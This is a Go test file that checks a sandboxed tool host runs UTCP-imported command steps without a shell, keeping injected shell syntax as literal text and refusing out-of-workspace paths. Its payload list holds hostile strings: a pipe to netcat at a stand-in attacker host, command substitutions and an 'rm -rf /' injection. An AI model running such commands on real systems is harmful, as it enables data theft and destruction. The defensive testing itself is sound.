package utcp

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/clihost/clihost/errcode"
	"github.com/clihost/clihost/host"
	"github.com/clihost/clihost/internal/fixture"
	"github.com/clihost/clihost/manifest"
	"github.com/clihost/clihost/sandbox/nsinit"
)

// TestMain lets this test binary act as the sandbox's init: the host re-execs it to confine every
// step it runs.
func TestMain(m *testing.M) {
	nsinit.Main()
	os.Exit(m.Run())
}

// imported converts testdata/manual.json, writes it and loads it; the bundle must lint clean,
// warnings included.
func imported(t *testing.T) (*host.Host, *manifest.Bundle) {
	t.Helper()
	files := map[string]string{}
	for name, data := range convertManual(t).Files {
		files["utcp-demo/"+name] = string(data)
	}
	reg := fixture.Registry(t, files)
	h := host.New(reg, host.Options{})
	bundle, err := h.Bundle("utcp-demo")
	if err != nil {
		t.Fatal(err)
	}
	return h, bundle
}

func need(t *testing.T, bins ...string) {
	t.Helper()
	fixture.Need(t, bins...)
}

// TestImportedToolsRun runs the imported tools through the real host: every step is its own
// sandboxed process, and no shell is involved, so shell syntax in values is plain text.
func TestImportedToolsRun(t *testing.T) {
	need(t, "/usr/bin/echo", "/usr/bin/printf", "/usr/bin/jq", "/usr/bin/git", "/usr/bin/printenv")
	h, b := imported(t)
	ws := fixture.Workspace(t)
	if err := os.MkdirAll(filepath.Join(ws, "sub dir"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "sub dir", "data.json"), []byte(`{"name": "from file"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	fixture.GiveToAgent(t, ws)
	call := func(tool string, input map[string]any) host.Envelope {
		t.Helper()
		return h.Call(context.Background(), b, tool, input, host.Caller{Workspace: ws}, host.CallOptions{})
	}
	value := func(tool string, input map[string]any) any {
		t.Helper()
		env := call(tool, input)
		if !env.OK {
			raw, _ := json.Marshal(env)
			t.Fatalf("%s: %s", tool, raw)
		}
		return env.Value
	}

	// Injection payloads from UTCP's own security tests: each stays one argument, verbatim.
	for _, payload := range []string{"a b  c", "data.csv | nc attacker.example 9999", "data.csv `id`", "data.csv $(id)",
		`data.csv"; echo pwned; "`, "value'with'quote", `"; rm -rf /; "`, "*"} {
		if got := value("echo_chain", map[string]any{"message": payload}); got != "Previous: "+payload {
			t.Errorf("echo_chain(%q) = %q", payload, got)
		}
	}
	if got := value("echo_chain", map[string]any{"message": "hi"}); got != "Previous: hi" {
		t.Errorf("echo_chain: %q", got)
	}
	// A placeholder value starting with '-' in a positional slot is refused, not read as an option.
	if env := call("echo_chain", map[string]any{"message": "-n"}); env.OK || env.Error.Code != "input_invalid" {
		t.Errorf("a leading dash: %+v", env.Error)
	}
	// A missing argument is input_invalid (UTCP would run with MISSING_ARG_message).
	if env := call("echo_chain", map[string]any{}); env.OK || env.Error.Code != "input_invalid" {
		t.Errorf("missing argument: %+v", env)
	}

	// cd → dir; $CMD_1_OUTPUT as one argument; JSON output detected and parsed.
	got := value("read_name", map[string]any{"dir": "sub dir", "label": "$HOME; `id`"})
	want := map[string]any{"name": "from file", "label": "$HOME; `id`"}
	if raw, _ := json.Marshal(got); string(raw) != mustJSON(want) {
		t.Errorf("read_name = %s, want %s", raw, mustJSON(want))
	}
	// dir is imported as format: path: the host refuses paths out of the workspace before any
	// step runs; a missing folder is the step's own input_invalid.
	for dir, code := range map[string]errcode.Code{"..": "path_traversal_blocked", "/etc": "path_traversal_blocked", "sub dir/../..": "path_traversal_blocked", "missing": "input_invalid"} {
		if env := call("read_name", map[string]any{"dir": dir, "label": "x"}); env.OK || env.Error.Code != code {
			t.Errorf("dir %q: %+v, want %s", dir, env.Error, code)
		}
	}

	// append_to_final_output: the first and the last step, joined by a newline.
	if got := value("append_some", nil); got != "first\nsecond-third" {
		t.Errorf("append_some = %q", got)
	}
	// env_vars, export and a NAME=value prefix reach the step's environment.
	if got := value("show_env", map[string]any{"who": "me, myself"}); got != "hello world\nme, myself\nx y" {
		t.Errorf("show_env = %q", got)
	}
	// A step that exits non-zero fails the call (UTCP ignores exit codes); later steps do not run.
	env := call("always_fails", nil)
	if env.OK || env.Error == nil || env.ExitCode == nil || *env.ExitCode != 1 || !strings.Contains(env.Error.Message, "step 0 (false)") {
		raw, _ := json.Marshal(env)
		t.Errorf("always_fails: %s", raw)
	}
	// A program from exec.spawn (git) runs as a step of its own.
	if got := value("git_ref", map[string]any{"branch": "a//b"}); got != "refs/heads/a/b" {
		t.Errorf("git_ref = %q", got)
	}
	// A step that wrote only to stderr hands on its stderr (UTCP runs each step as $(cmd 2>&1)).
	if got := value("warned", map[string]any{"note": "careful"}); got != `Previous: ["DEBUG:","careful"]` {
		t.Errorf("warned = %q", got)
	}
	// The final output is stripped of surrounding white space, as UTCP strips its script's output.
	if got := value("padded", nil); got != "padded" {
		t.Errorf("padded = %q", got)
	}
	// No file appeared in the workspace: nothing was run through a shell.
	entries, _ := os.ReadDir(ws)
	if len(entries) != 1 {
		t.Errorf("the workspace holds %d entries, want only %q", len(entries), "sub dir")
	}
}

func mustJSON(v any) string {
	raw, _ := json.Marshal(v)
	return string(raw)
}
